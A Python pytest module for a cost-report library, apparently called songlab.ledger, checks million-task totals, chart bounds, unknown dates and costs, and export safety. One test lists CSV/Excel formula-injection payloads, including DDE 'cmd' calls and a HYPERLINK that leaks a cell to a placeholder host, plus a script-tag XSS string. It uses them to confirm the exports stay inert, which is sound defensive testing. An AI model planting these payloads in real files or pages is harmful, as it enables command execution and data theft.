"""The cost report at volume: exact totals at a million tasks, bounded charts, unknown dates
and costs, and exports that no spreadsheet evaluates.

One million-task frame per module (``synthetic_table``: about a second to make).
"""

from __future__ import annotations

import csv
import json
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from matplotlib.figure import Figure

from songlab.ledger import LedgerStore, _schema, plots, tables, tasks_frame
from songlab.ledger.export import FORMULA_START
from songlab.ledger.periods import period
from songlab.ledger.relation import AGENT_TIER
from songlab.ledger.report import render_report, write_report
from songlab.ledger.synthetic import synthetic_table, write_synthetic_dataset
from tests.ledger._util import snap

MILLION = 1_000_000


@pytest.fixture(scope="module")
def million() -> pd.DataFrame:
    return _schema.to_frame(synthetic_table(MILLION, seed=3, labels=True))


@pytest.fixture(scope="module")
def million_report(million: pd.DataFrame) -> tables.ReportData:
    return tables.build(million, budgets=["5000", "jingles=100"])


def _pandas_spend(frame: pd.DataFrame, key: str) -> dict[Any, tuple[int, Decimal]]:
    top = frame[frame["parent_task_id"].isna()]
    if key == "tier":  # Agent One runs have no license tier: their own row in every figure
        top = top.assign(tier=top["tier"].where(top["operation"] != "agent", AGENT_TIER))
    g = top.groupby(key, dropna=False)
    return {
        k: (int(n), Decimal(v))
        for k, n, v in zip(
            g.size().index, g.size().tolist(), g["cost_usd"].sum().tolist(), strict=True
        )
    }


def test_a_million_tasks_add_up_to_the_pandas_sums(
    million: pd.DataFrame, million_report: tables.ReportData
) -> None:
    d, f = million_report, million_report.figures
    top = million[million["parent_task_id"].isna()]
    assert f["tasks"] == len(top) == MILLION
    assert f["spend"] == top["cost_usd"].sum() == million.songlab.total()
    assert isinstance(f["spend"], Decimal) and f["spend"].as_tuple().exponent == -8
    assert f["billed"] == top["billed_usd"].sum()
    est = top[top["cost_source"] == "estimate"]
    assert (f["estimated_tasks"], f["estimated"]) == (len(est), est["cost_usd"].sum())
    unknown = int((top["cost_source"] == "unknown").sum())
    pending = top[top["cost_source"] == "pending"]
    assert f["unknown_tasks"] == unknown  # Agent One runs without a trace: no price
    assert f["pending_tasks"] == len(pending) > 0  # still running: nothing spent yet
    assert f["pending"] == pending["estimate_usd"].sum()
    assert int(top["cost_usd"].isna().sum()) == unknown + len(pending)
    for key, table in (
        ("operation", "by_operation"),
        ("project", "by_project"),
        ("tier", "by_model_tier"),
    ):
        got: dict[Any, tuple[int, Decimal]] = {}
        t = d.tables[table]
        for k, n, v in zip(
            t[key].tolist(), t["tasks"].tolist(), t["cost_usd"].tolist(), strict=True
        ):
            k = None if k == tables.NO_PROJECT else k
            n0, v0 = got.get(k, (0, Decimal(0)))
            got[k] = (n0 + n, v0 + v)
        want = _pandas_spend(million, key)
        assert got == {(None if pd.isna(k) else k): v for k, v in want.items()}, table
    by_day = d.tables["by_day"]
    assert sum(by_day["cost_usd"].tolist()) == f["spend"]
    assert by_day["tasks"].sum() == MILLION
    # the report itself: every table bounded, the header to the cent
    document = render_report(d)
    assert f'<dd class="value">${f["spend"].quantize(Decimal("0.01")):,.2f}</dd>' in document
    assert len(d.tables["tasks"]) == tables.TASK_ROWS
    assert len(d.tables["agent_steps"]) <= tables.AGENT_STEP_ROWS
    assert len(document) < 3_000_000


def _marks(fig: Figure) -> int:
    return sum(len(ax.patches) + len(ax.collections) + len(ax.lines) for ax in fig.axes)


def _figures(d: tables.ReportData) -> dict[str, Figure]:
    return {
        "month": plots.month_forecast(d.charts["month_days"], d.forecast, budget=Decimal(9)),
        "over_time": plots.spend_over_time(
            d.charts["project_days"], by="project", period=d.charts["project_days"].attrs["freq"]
        ),
        "project": plots.spend_by_project(d.tables["by_project"]),
        "tier": plots.spend_by_tier(d.charts["by_tier"]),
        "comparison": plots.tier_comparison_plot(d.tables["tier_comparison"]),
        "agent": plots.agent_cost_per_step(d.tables["agent_by_step"]),
    }


# The most marks each chart may have, whatever the number of tasks.
BOUNDS = {
    "month": 4,  # spent, forecast, budget, the forecast's interval
    "over_time": (plots.TOP + 1) * plots.BARS_UP_TO,
    "project": 13,
    "tier": 6,
    "comparison": 6,
    "agent": 3 * (plots.TOP + 2),
}


def _many_labels(n: int) -> pd.DataFrame:
    """``n`` tasks, each with its own project and an Agent One run calling its own tool."""
    t = _schema.to_frame(synthetic_table(n, seed=5))
    t["project"] = pd.array([f"p{i}" for i in range(n)], dtype=t["project"].dtype)
    runs = t.index[(t["operation"] == "agent") & t["metadata_json"].notna()]
    meta = [json.loads(m) for m in t.loc[runs, "metadata_json"]]
    for i, m in enumerate(meta):
        for s in m["steps"]:
            if s["kind"] == "tool_call":
                s["tool"] = f"tool_{i}_{s['index']}"
    t.loc[runs, "metadata_json"] = [json.dumps(m) for m in meta]
    return t


@pytest.mark.parametrize("size", ["1k-many-labels", "1M"])
def test_every_chart_has_a_bounded_number_of_marks(
    size: str, million_report: tables.ReportData
) -> None:
    frame = _many_labels(1000) if size.startswith("1k") else None
    d = tables.build(frame) if frame is not None else million_report
    if size.startswith("1k"):
        assert len(d.tables["by_project"]) == 1000  # the table has every project ...
    figs = _figures(d)
    counts = {name: _marks(fig) for name, fig in figs.items()}
    for name, count in counts.items():
        assert 0 < count <= BOUNDS[name], (name, count)  # ... the chart the top and "other"
    # and they draw: one PNG each
    for fig in figs.values():
        assert plots.png_bytes(fig, dpi=30).startswith(b"\x89PNG")
    # the same bound from a tasks frame, as a notebook calls them
    if frame is not None:
        assert _marks(plots.spend_by_project(frame)) <= BOUNDS["project"]
        assert _marks(plots.spend_over_time(frame, by="project")) <= BOUNDS["over_time"]


HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
]


def _hostile_tasks() -> pd.DataFrame:
    from songlab.ledger.synthetic import agent_trace

    trace = agent_trace("run1", tier="flash")
    for s, bad in zip(trace["steps"], HOSTILE, strict=False):
        s["text"] = bad
        if s["kind"] == "tool_call":
            s["tool"] = bad
    recs = [snap(f"t{i}", created_at=f"2026-11-{10 + i}T10:00:00Z") for i in range(len(HOSTILE))]
    recs.append(
        snap(
            "run1",
            operation="agent",
            model="flash",
            tool_id=HOSTILE[0],
            cost_usd=trace["total_cost_usd"],
            output={"metadata_json": json.dumps(trace)},
        )
    )
    frame = tasks_frame(recs)
    labels = HOSTILE + [HOSTILE[3]]
    frame["project"] = pd.array(labels, dtype=frame["project"].dtype)
    frame["tags"] = pd.array(labels[::-1], dtype=frame["tags"].dtype)
    frame["key_id"] = pd.array(labels, dtype=frame["key_id"].dtype)
    return frame


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def test_hostile_text_is_inert_in_excel_csv_and_html(tmp_path: Path) -> None:
    frame = _hostile_tasks()
    out, xlsx, csv_dir = tmp_path / "r.html", tmp_path / "r.xlsx", tmp_path / "csv"
    write_report(
        frame, out, xlsx=str(xlsx), csv_dir=str(csv_dir), budgets=["1"], all_tasks_csv=True
    )  # tasks.csv made by DuckDB, the rest by Python
    wb = openpyxl.load_workbook(xlsx)
    shown: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    shown.add(cell.value)
                    if cell.value.startswith((*FORMULA_START, "\n")):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert {h.replace("\r", "\n") for h in HOSTILE} <= shown  # the text as typed (XML: CR as LF)
    assert f"called {HOSTILE[1]}" in shown  # a tool name from the service, in a step
    # money stays a number: a negative difference too
    comp = wb["tier_comparison"]
    assert all(isinstance(c.value, int | float) for c in list(comp.columns)[2][1:])
    seen_csv = 0
    for path in csv_dir.glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(FORMULA_START):
                        assert _is_number(cell), (path.name, cell)
                    if cell.startswith("'") and cell[1:] in HOSTILE:
                        seen_csv += 1
    assert seen_csv >= 3 * len(HOSTILE)  # in tasks.csv (project, tags, key) and the tables
    document = out.read_text(encoding="utf-8")
    assert "<script" not in document and "&lt;script&gt;alert(1)&lt;/script&gt;" in document


def test_unknown_dates_and_costs_are_counted_never_dropped_or_zero(tmp_path: Path) -> None:
    frame = tasks_frame(
        [
            snap("dated", cost_usd="0.12", created_at="2026-11-20T10:00:00Z"),
            snap("undated1", cost_usd="0.07", created_at=None, updated_at=None),
            snap("undated2", cost_usd="0.05", created_at=None, updated_at=None),
            snap(  # finished, no cost shown, no trace: its cost is unknown
                "run",
                operation="agent",
                model="flash",
                cost_usd=None,
                created_at="2026-11-21T10:00:00Z",
            ),
            snap("queued", status="queued", cost_usd=None, created_at="2026-11-21T11:00:00Z"),
            snap("done", cost_usd=None, created_at="2026-11-22T11:00:00Z"),
        ]
    )
    assert frame.loc[frame["task_id"] == "run", "cost_source"].item() == "unknown"
    assert frame.loc[frame["task_id"] == "queued", "cost_source"].item() == "pending"
    out = tmp_path / "r.html"
    write_report(frame, out, csv_dir=str(tmp_path / "csv"), xlsx=str(tmp_path / "r.xlsx"))
    d = tables.build(frame)
    f = d.figures
    assert f["tasks"] == 6 and f["undated_tasks"] == 2 and f["undated"] == Decimal("0.12")
    # 0.12 + 0.07 + 0.05 + the completed task's estimate 0.12; not the queued task's 0.12
    assert f["spend"] == Decimal("0.36")
    assert f["unknown_tasks"] == 1 and f["estimated_tasks"] == 1 and f["pending_tasks"] == 1
    assert f["estimated"] == Decimal("0.12") and f["pending"] == Decimal("0.12")
    by_day = d.tables["by_day"]
    last = by_day.iloc[-1]
    assert pd.isna(last["period"]) and last["tasks"] == 2 and last["cost_usd"] == Decimal("0.12")
    day21 = by_day[by_day["period"].astype(str) == "2026-11-21"].iloc[0]
    assert day21["tasks"] == 2 and day21["unknown_tasks"] == 1
    assert day21["pending_tasks"] == 1 and day21["pending_usd"] == Decimal("0.12")
    assert day21["cost_usd"] == 0  # the run's unknown cost is not a 0 in a sum: it is counted
    document = out.read_text(encoding="utf-8")
    assert document.count("<td>date unknown</td>") >= 4  # by day, week, month; the tasks
    assert "1 of unknown cost" in document and "$0.12 estimated" in document
    # the frame-level roll-up a notebook calls does not stumble on them either
    from songlab.ledger.periods import rollup

    # the same roll-up as the report's: the dated months, then the tasks of unknown date
    months = rollup(frame, "month")
    assert months["tasks"].tolist() == [4, 2] and pd.isna(months["period"].iloc[-1])
    only = rollup(frame.iloc[1:3], "day")  # only undated tasks: no period, one row of them
    assert len(only) == 1 and pd.isna(only["period"].iloc[0]) and only["tasks"].iloc[0] == 2
    # a dated period cannot place them: counted apart, not in its totals
    nov20 = tables.build(frame, p=period(start="2026-11-20", end="2026-11-20"))
    assert nov20.figures["tasks"] == 1 and nov20.figures["undated_outside_tasks"] == 2
    assert "2 of date unknown outside the period" in render_report(nov20)


def test_a_ledger_directory_reports_in_place_like_its_frame(tmp_path: Path) -> None:
    root = write_synthetic_dataset(tmp_path / "ledger", 30_000, seed=9, days=80, chunk=7_000)
    store = LedgerStore(root)
    assert len(store.files()) >= 3  # month partitions, each written a chunk at a time
    frame = store.read()
    assert len(frame) == 30_000 and frame["task_id"].is_unique
    assert frame["created_at"].is_monotonic_decreasing
    from_dir = tables.build(root, budgets=["100"])
    from_frame = tables.build(frame, budgets=["100"], as_of=from_dir.as_of)
    from_arrow = tables.build(store.read_table(), budgets=["100"], as_of=from_dir.as_of)
    assert from_dir.figures == from_frame.figures == from_arrow.figures
    for name in (
        "by_day",
        "by_project",
        "by_tag",
        "by_key",
        "by_model_tier",
        "tier_comparison",
        "agent_by_step",
        "budgets",
    ):
        pd.testing.assert_frame_equal(from_dir.tables[name], from_frame.tables[name], obj=name)
    assert from_dir.figures["spend"] == frame.songlab.total()


def test_a_compact_frame_holds_the_same_tasks_and_reports_the_same(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import pyarrow as pa

    from songlab.ledger import synthetic

    plain = synthetic_table(20_000, seed=4, labels=True)
    compact = synthetic_table(20_000, seed=4, labels=True, compact=True)
    repeated = (
        "tool_id",
        "operation",
        "model",
        "tier",
        "status",
        "failure_error",
        "project",
        "tags",
        "key_id",
    )
    for name in repeated:
        assert pa.types.is_dictionary(compact.schema.field(name).type), name
    assert compact.cast(_schema.TASKS).equals(plain)  # the same values
    assert compact.nbytes < 0.6 * plain.nbytes
    frame = _schema.to_frame(compact)
    assert all(isinstance(frame[c].dtype, pd.ArrowDtype) for c in frame.columns)  # no object
    a = tables.build(_schema.to_frame(plain), budgets=["100"])
    b = tables.build(frame, budgets=["100"])
    assert a.tables.keys() == b.tables.keys()
    for key in a.tables:
        pd.testing.assert_frame_equal(a.tables[key], b.tables[key])
    # over COMPACT_CHUNK rows: made a slice of time at a time, newest first, every id once
    monkeypatch.setattr(synthetic, "COMPACT_CHUNK", 3_000)
    sliced = synthetic_table(10_000, seed=4, compact=True)
    created = sliced["created_at"].to_numpy()
    assert sliced.num_rows == 10_000 and (created[:-1] >= created[1:]).all()
    ids = sliced["task_id"].to_pylist()
    assert sorted(ids) == [f"task_4_{i:08d}" for i in range(10_000)]
